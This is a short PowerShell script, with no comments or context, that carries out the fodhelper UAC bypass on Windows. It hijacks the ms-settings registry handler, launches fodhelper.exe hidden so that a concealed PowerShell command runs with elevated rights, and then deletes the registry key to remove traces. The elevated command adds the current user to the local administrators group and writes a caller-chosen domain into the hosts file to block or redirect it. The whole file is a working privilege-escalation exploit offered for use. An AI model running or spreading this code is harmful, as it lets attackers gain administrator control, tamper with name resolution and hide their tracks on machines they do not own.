param([string]$Add)
$k = 'HKCU:\Software\Classes\ms-settings\Shell\Open\command'
New-Item $k -Force | Out-Null
New-ItemProperty $k -Name 'DelegateExecute' -Value '' -Force | Out-Null
Set-ItemProperty $k -Name '(default)' -Value "powershell -w hidden -c Add-Content C:\Windows\System32\drivers\etc\hosts '127.0.0.1 $Add'; net localgroup administrators $env:USERNAME /add" -Force
Start-Process 'C:\Windows\System32\fodhelper.exe' -WindowStyle Hidden
Start-Sleep 3
Remove-Item 'HKCU:\Software\Classes\ms-settings' -Recurse -Force
